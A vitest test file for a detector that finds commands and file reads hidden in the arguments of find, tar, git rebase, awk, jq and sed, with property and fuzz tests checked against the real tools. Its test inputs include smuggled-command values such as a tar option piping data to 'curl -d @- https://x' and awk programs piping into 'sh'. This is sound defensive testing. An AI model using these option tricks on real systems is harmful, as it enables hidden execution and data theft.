import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, describe, expect, it } from "vitest";
import { awkRunsOrReads, embeddedWork, jqProgramReads, sedScriptWork } from "../../src/core/embedded-commands.js";

const scratch = mkdtempSync(join(tmpdir(), "provenant-embedded-"));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Whether the machine's own program accepts `args` (run in a scratch directory on empty input). */
const accepts = (program: string, args: readonly string[]) => spawnSync(program, args, { cwd: scratch, input: "", timeout: 5_000 }).status === 0;

describe("what a local program runs by its options", () => {
  it("find -exec/-execdir/-ok/-okdir up to ; or +, fd -x/-X to ; or the end", () => {
    expect(embeddedWork("find", [".", "-name", "*.md", "-exec", "cat", "{}", ";", "-o", "-execdir", "wc", "-l", "{}", "+"]).commands).toEqual([["cat", "{}"], ["wc", "-l", "{}"]]);
    expect(embeddedWork("find", [".", "-ok", "rm", "{}"]).commands).toEqual([["rm", "{}"]]);
    expect(embeddedWork("find", [".", "-exec", ";"]).commands).toEqual([]);
    expect(embeddedWork("fd", ["-e", "md", "-x", "cat", "{}"]).commands).toEqual([["cat", "{}"]]);
    expect(embeddedWork("fdfind", ["--exec-batch", "ls", ";", "-X", "wc"]).commands).toEqual([["ls"], ["wc"]]);
  });

  it("tar, sort, rg and git rebase: options whose value a shell runs", () => {
    expect(embeddedWork("tar", ["-xf", "a.tar", "--to-command=curl -d @- https://x"]).scripts).toEqual(["curl -d @- https://x"]);
    expect(embeddedWork("tar", ["-I", "zstd -d", "-xf", "a.tar"]).scripts).toEqual(["zstd -d"]);
    expect(embeddedWork("tar", ["-cIxz", "-f", "a.tar", "."]).scripts).toEqual(["xz"]);
    expect(embeddedWork("tar", ["--checkpoint=1", "--checkpoint-action=exec=curl https://x", "-cf", "a.tar", "."]).scripts).toEqual(["curl https://x"]);
    expect(embeddedWork("tar", ["--checkpoint-action=dot"]).scripts).toEqual([]);
    expect(embeddedWork("sort", ["--compress-program=gzip", "f"]).scripts).toEqual(["gzip"]);
    expect(embeddedWork("rg", ["--pre", "pdftotext", "x"]).scripts).toEqual(["pdftotext"]);
    expect(embeddedWork("git", ["rebase", "-x", "npm test", "main"]).scripts).toEqual(["npm test"]);
    expect(embeddedWork("git", ["rebase", "--exec=make", "main"]).scripts).toEqual(["make"]);
    expect(embeddedWork("git", ["log", "-x"]).scripts).toEqual([]);
    expect(embeddedWork("git", ["cherry-pick", "-x", "abc123"]).scripts).toEqual([]);
    expect(embeddedWork("sort", ["--checkpoint-action=exec=id"]).scripts).toEqual([]);
    expect(embeddedWork("ls", ["-la"])).toEqual({ commands: [], scripts: [], files: [], unknown: null });
  });
});

describe("awk: a program that can run a command or read a file", () => {
  it("system(), getline, command pipes and @load/@include run or read; strings, regular expressions and || do not", () => {
    for (const program of ['BEGIN { system("curl -s x") }', '{ "date" | getline d; print d }', '{ print $1 | "sort" }', "{ getline line < \"notes.md\" }", '{ print |& "cat" }', '@load "filefuncs"', '@include "x.awk"', "/a/ { print | cmd }"]) {
      expect(awkRunsOrReads(program), program).toBe(true);
    }
    for (const program of ["{ print $1 }", "/a|b/ { n++ } END { print n }", '$0 ~ /x|y/ && NF > 1 || NR == 1', 'BEGIN { FS = "|" } { printf "%s|%s\\n", $1, $2 }', "NR==1, /^end|stop$/", "{ x = n / 2; print x }", '/[/|]/ { print "slash or bar" }']) {
      expect(awkRunsOrReads(program), program).toBe(false);
    }
  });

  it("the program is found past options; one from a file is not known; every other word is read as a program", () => {
    expect(embeddedWork("awk", ["-F", "|", "-v", "x=1", "{ print $1 }", "data.txt"]).unknown).toBeNull();
    expect(embeddedWork("awk", ["-F|", '{ system("id") }']).unknown).toBe("the awk program runs a command or reads a file it names");
    expect(embeddedWork("gawk", ["-e", "{ print }", "-e", 'END { system("id") }', "f"]).unknown).not.toBeNull();
    expect(embeddedWork("gawk", ["--source=BEGIN { system(\"id\") }"]).unknown).not.toBeNull();
    expect(embeddedWork("awk", ["-f", "prog.awk", "data"]).unknown).toBe("awk runs a program from a file");
    expect(embeddedWork("gawk", ["--file=prog.awk"]).unknown).toBe("awk runs a program from a file");
    expect(embeddedWork("mawk", ["-W", "interactive", '{ print | "sh" }']).unknown).not.toBeNull();
    expect(embeddedWork("awk", ["--", '{ print | "sh" }']).unknown).not.toBeNull();
  });

  it("awk's options: values are not programs, a flag is not a value, a library or include is code", () => {
    expect(embeddedWork("awk", ["--assign", "v=|", "--field-separator", "|", "{ print }"]).unknown).toBeNull();
    expect(embeddedWork("gawk", ["-b", '{ print | "sh" }']).unknown).not.toBeNull();
    expect(embeddedWork("nawk", ['BEGIN { system("id") }']).unknown).not.toBeNull();
    expect(embeddedWork("gawk", ["--include=lib.awk", "{ print }"]).unknown).toBe("awk runs a program from a file");
    expect(embeddedWork("gawk", ["--load", "filefuncs", "{ print }"]).unknown).toBe("awk runs a program from a file");
    expect(embeddedWork("gawk", ["-lfilefuncs", "{ print }"]).unknown).toBe("awk runs a program from a file");
    expect(embeddedWork("gawk", ["-E", "prog.awk"]).unknown).toBe("awk runs a program from a file");
    // A program that begins with a dash, after `--`.
    expect(embeddedWork("awk", ["--", '-1 { print | "sh" }']).unknown).not.toBeNull();
    expect(awkRunsOrReads('{ print $1 / 2 | "sort" }')).toBe(true);
    expect(awkRunsOrReads("NR == 1\n/a|b/ { print }")).toBe(false);
    expect(awkRunsOrReads('system ("id")')).toBe(true);
    expect(awkRunsOrReads("$0 ~ /a\\/b|c/")).toBe(false);
    expect(awkRunsOrReads('/[a]/ { print | "sh" }')).toBe(true);
  });

  it("property: a program built of safe and command-running pieces runs or reads exactly when it holds one of the latter (and the machine's awk accepts it)", () => {
    const safe = fc.constantFrom("{ print $1 }", "/a|b/ { n++ }", "$2 ~ /x|y/ { print }", "NR > 1 || NF == 0 { c++ }", 'BEGIN { FS = "|" }', '{ printf "%s|%s\\n", $1, $2 }', "{ s = $1 / 2 }", "END { print n }");
    const running = fc.constantFrom('BEGIN { system("true") }', '{ "date" | getline d }', '{ print $0 | "cat" }', '{ getline x < "f" }');
    fc.assert(
      fc.property(fc.array(safe, { maxLength: 4 }), fc.option(running, { nil: undefined }), fc.nat(4), (pieces, run, at) => {
        const all: string[] = [...pieces];
        if (run !== undefined) all.splice(Math.min(at, all.length), 0, run);
        const program = all.join("\n");
        expect(awkRunsOrReads(program)).toBe(run !== undefined);
        expect(accepts("awk", [program === "" ? "{}" : program, "/dev/null"])).toBe(true);
      }),
      { numRuns: 60 },
    );
  });
});

describe("jq and yq: a program that reads a file it names", () => {
  it("import and include (any spacing, a comment or a format between), a program from a file, yq's load and eval read; field names, file names and plain programs do not", () => {
    for (const program of ['import "vendor/data" as $d; $d', 'include "m"; f', 'include"m";f', 'import @text "m" as $d; $d', 'import # why\n"m" as $d; $d', '.a = load("x.yaml")', '.a = load_str(.path)', 'eval("lo" + "ad(\\"x\\")")']) {
      expect(jqProgramReads(program), program).toBe(true);
      expect(embeddedWork("jq", ["-n", program]).unknown).toBe("the jq program reads a file it names");
    }
    for (const program of [".items[] | .name", ".import == true", "select(.include)", "map(.a) | add", '.[] | "\\(.name): \\(.value)"', "reduce .[] as $x (0; . + $x)"]) expect(jqProgramReads(program), program).toBe(false);
    for (const args of [["-f", "prog.jq", "in.json"], ["-nrf", "prog.jq"], ["--from-file", "prog.jq"]]) expect(embeddedWork("jq", args).unknown).toBe("jq runs a program from a file");
    expect(embeddedWork("yq", ["-y", '.a = load("x.yaml")', "a.yaml"]).unknown).not.toBeNull();
    expect(embeddedWork("jq", [".", "import.json", "include.json", "loader.json"]).unknown).toBeNull();
    // A word with an f is not -f: a library path given to -L, a name with a dash in it.
    expect(embeddedWork("jq", ["-Lfixtures/jq", "-n", "1"]).unknown).toBeNull();
    expect(embeddedWork("jq", [".", "out-of"]).unknown).toBeNull();
    expect(embeddedWork("jq", ["-r", "--arg", "x", "1", "--indent", "2", ".a", "in.json"]).unknown).toBeNull();
  });

  it("fuzz: whenever the machine's jq looks for a module or a program file, the program is found to read one", () => {
    // A directive jq accepts, half the time with one character of it dropped (a near miss), before a plain program.
    const space = fc.constantFrom("", " ", "  ", "#c\n", "\n");
    const directive = fc
      .tuple(fc.constantFrom("import", "include"), space, fc.constantFrom("", "@text ", "@json"), fc.constantFrom('"m"', '"a/m"'), fc.constantFrom(" as $d", " as d", ""), fc.constantFrom(";", ""))
      .map((parts) => parts.join(""));
    const program = fc.tuple(directive, fc.constantFrom(" .", " 1", " $d", " d::f", ""), fc.option(fc.nat(40), { nil: undefined, freq: 2 })).map(([d, rest, drop]) => {
      const text = d + rest;
      return drop === undefined ? text : text.slice(0, drop % text.length) + text.slice((drop % text.length) + 1);
    });
    let found = 0;
    fc.assert(
      fc.property(program, fc.boolean(), (program, fromFile) => {
        const args = fromFile ? ["-n", "-f", program] : ["-n", program];
        const run = spawnSync("jq", args, { cwd: scratch, encoding: "utf8", timeout: 5_000 });
        if (!/module not found|Could not open/.test(run.stderr)) return;
        if (!fromFile) found++;
        expect(embeddedWork("jq", args).unknown, program).not.toBeNull();
      }),
      { numRuns: 400 },
    );
    // The oracle spoke: jq looked for a module in some of the programs (about one in twelve; 17
    // to 38 of 300 over twelve runs).
    expect(found).toBeGreaterThan(5);
  });
});

describe("sed: files a script reads and commands it runs", () => {
  it("r and R read a file, e and the s flag e run a command, --sandbox refuses them, a script from a file is not known", () => {
    expect(sedScriptWork("1r third_party/lib/README.md")).toEqual({ reads: ["third_party/lib/README.md"], runs: false });
    expect(sedScriptWork("$R notes.md;p")).toEqual({ reads: ["notes.md;p", "notes.md"], runs: false });
    expect(sedScriptWork("/x/ { r a.txt\n}")).toEqual({ reads: ["a.txt"], runs: false });
    expect(sedScriptWork("1e curl -s x")?.runs).toBe(true);
    expect(sedScriptWork("s/.*/date/e")?.runs).toBe(true);
    expect(sedScriptWork("s|a|b|ge")?.runs).toBe(true);
    expect(sedScriptWork("s/a/b/w out.txt")).toEqual({ reads: [], runs: false });
    expect(embeddedWork("sed", ["-n", "1r x.md", "f"]).files).toEqual(["x.md"]);
    expect(embeddedWork("sed", ["-e", "p", "--expression=1e id"]).unknown).toBe("the sed script runs a command");
    expect(embeddedWork("sed", ["--sandbox", "1e id"]).unknown).toBeNull();
    expect(embeddedWork("sed", ["-f", "script.sed", "f"]).unknown).toBe("sed runs a script from a file");
    expect(embeddedWork("sed", ["-i", "", "1r x.md", "f"]).files).toEqual(["x.md"]);
    expect(embeddedWork("sed", ["-i.bak", "-n", "-E", "s/(a)/\\1/p", "f"])).toEqual({ commands: [], scripts: [], files: [], unknown: null });
    expect(embeddedWork("sed", ["-n", "q nonsense", "f"]).unknown).toBe("the sed script could not be read for the commands it runs");
  });

  it("each form of address, command and argument, as GNU sed reads it", () => {
    const none = { reads: [], runs: false };
    const cases: [string, ReturnType<typeof sedScriptWork>][] = [
      // Addresses: numbers, steps, ranges with spaces, +N and ~N, regular expressions with flags and other delimiters.
      ["1 , 3 r a.md", { reads: ["a.md"], runs: false }],
      ["2~3r b.md", { reads: ["b.md"], runs: false }],
      ["5,~4 r c.md", { reads: ["c.md"], runs: false }],
      ["/x/,+2 e id", { reads: [], runs: true }],
      ["/a\\/b/I e id", { reads: [], runs: true }],
      ["\\%a/b%M,$ r d.md", { reads: ["d.md"], runs: false }],
      ["$ !e id", { reads: [], runs: true }],
      ["1,p", null],
      ["+3p", null],
      ["~2p", null],
      ["1,3~2p", none],
      ["//d", none],
      ["/unterminated", null],
      ["\\", null],
      // Commands and their arguments.
      ["w out.txt", none],
      ["W out.txt\n1e id", { reads: [], runs: true }],
      ["s/a/b/w out.txt\nr in.md", { reads: ["in.md"], runs: false }],
      ["s/a/b", null],
      ["s\na\nb\n", null],
      ["s\\a\\b\\", null],
      ["s/a\\/b/c/ge", { reads: [], runs: true }],
      ["y/a/b/;1e id", { reads: [], runs: true }],
      ["q5;1e id", { reads: [], runs: true }],
      ["l 70\nr x.md", { reads: ["x.md"], runs: false }],
      ["T  x  R y", { reads: ["y"], runs: false }],
      ["b end ; r z.md", { reads: ["z.md"], runs: false }],
      [":a;r z.md", { reads: ["z.md"], runs: false }],
      ["a hello\n1e id", { reads: [], runs: true }],
      ["a\\\nline one\\\nline two\n1e id", { reads: [], runs: true }],
      ["i\\\nheader e\nr h.md", { reads: ["h.md"], runs: false }],
      ["a\\\nx\\\ne id\nr f", { reads: ["f"], runs: false }],
      ["1r a.md ;p", { reads: ["a.md ;p", "a.md"], runs: false }],
      ["r", null],
      ["k", null],
      ["1{p}", none],
      ["1}", null],
    ];
    for (const [script, expected] of cases) expect(sedScriptWork(script), JSON.stringify(script)).toEqual(expected);
  });

  it("sed's options: the script is each -e and --expression (attached or not), else the first operand; -l and --line-length take a value", () => {
    expect(embeddedWork("sed", ["-ne", "1e id", "f"]).unknown).toBe("the sed script runs a command");
    expect(embeddedWork("sed", ["-e1r x.md", "f"]).files).toEqual(["x.md"]);
    expect(embeddedWork("sed", ["-n", "--", "1e id", "f"]).unknown).toBe("the sed script runs a command");
    expect(embeddedWork("sed", ["-l", "5", "-n", "p", "f"]).unknown).toBeNull();
    expect(embeddedWork("sed", ["--line-length=80", "-n", "p", "f"]).unknown).toBeNull();
    expect(embeddedWork("sed", ["--line-length", "80", "p", "f"]).unknown).toBeNull();
    expect(embeddedWork("sed", ["-e", "p", "notes.md"]).unknown).toBeNull();
    expect(embeddedWork("sed", ["--file=x.sed", "f"]).unknown).toBe("sed runs a script from a file");
    expect(embeddedWork("sed", ["-nf", "x.sed", "f"]).unknown).toBe("sed runs a script from a file");
  });

  it("common scripts read as neither", () => {
    for (const script of ["s/a/b/g", "10,20p", "/^#/d", "1d;$d", "s|x|y|", "s/\\//-/g", "/start/,/end/{/x/d}", "$a\\\ntext", "y/abc/xyz/", "1~2p", "0,/re/s//x/", ":a;N;$!ba;s/\\n/ /g", "/x/I,+2d", "\\%^a%d", "2q", "s/a/b/2;t done;p;:done", "1i\\\nheader", "$!N;P;D", "# comment\np", "s/[0-9]+/N/gI"]) {
      expect(sedScriptWork(script), script).toEqual({ reads: [], runs: false });
      expect(accepts("sed", ["-n", "-E", "-e", script, "/dev/null"]), script).toBe(true);
    }
  });

  it("property: a script of plain, reading and running commands (which GNU sed accepts) reads each file named and runs when it has e", () => {
    const address = fc.constantFrom("", "1", "$", "/x/", "2,4", "/a/,/b/", "1~3", "\\%y%", "3,+2");
    const plain = fc.constantFrom("p", "d", "s/a/b/g", "y/ab/cd/", "s|x|y|2", "n", "=", "G", "x", "h");
    const reading = fc.constantFrom("in.md", "docs/a b.txt", "third_party/x/README").map((f) => ({ text: `r ${f}`, file: f }));
    const running = fc.constantFrom("e true", "s/.*/true/e");
    const command = fc.oneof(
      fc.tuple(address, plain).map(([a, c]) => ({ text: `${a}${c}`, file: null as string | null, runs: false })),
      fc.tuple(address, reading).map(([a, r]) => ({ text: `${a}${r.text}`, file: r.file, runs: false })),
      fc.tuple(address, running).map(([a, c]) => ({ text: `${a}${c}`, file: null, runs: true })),
    );
    fc.assert(
      fc.property(fc.array(command, { minLength: 1, maxLength: 5 }), (commands) => {
        // A file name runs to the end of its line, so commands are one per line.
        const script = commands.map((c) => c.text).join("\n");
        const found = sedScriptWork(script);
        const runs = commands.some((c) => c.runs);
        expect(found?.runs ?? true).toBe(runs);
        // Past the first command that runs, nothing more is read; before it, every file is.
        const upTo = runs ? commands.findIndex((c) => c.runs) : commands.length;
        if (!runs) expect(found?.reads).toEqual(commands.slice(0, upTo).flatMap((c) => (c.file === null ? [] : [c.file])));
        expect(accepts("sed", ["-n", "-e", script, "/dev/null"]), script).toBe(true);
      }),
      { numRuns: 60 },
    );
  });

  it("fuzz: any text is a result or null, never a throw; GNU sed's sandbox is the oracle both ways", () => {
    const sedish = fc.string({ unit: fc.constantFrom(..."pdrRewWsyqa$/|\\;{}!,~1 2\nx.:btn"), maxLength: 30 });
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 80 }), sedish), (text) => {
        const found = sedScriptWork(text);
        awkRunsOrReads(text);
        const sandboxed = spawnSync("sed", ["--sandbox", "-n", "-e", text, "/dev/null"], { cwd: scratch, encoding: "utf8", timeout: 5_000 });
        // What this finds reads or runs, the sandbox refuses.
        if (found !== null && (found.runs || found.reads.length > 0)) expect(sandboxed.status, text).not.toBe(0);
        // What the sandbox refuses for reading or running (no w in the text to write), this finds, or cannot read.
        if (/e\/r\/w commands disabled/.test(sandboxed.stderr) && !/[wW]/.test(text)) expect(found === null || found.runs || found.reads.length > 0, text).toBe(true);
      }),
      { numRuns: 400 },
    );
    // 400 runs of the real sed: seconds on an idle machine, more beside the end-to-end tiers.
  }, 120_000);
});
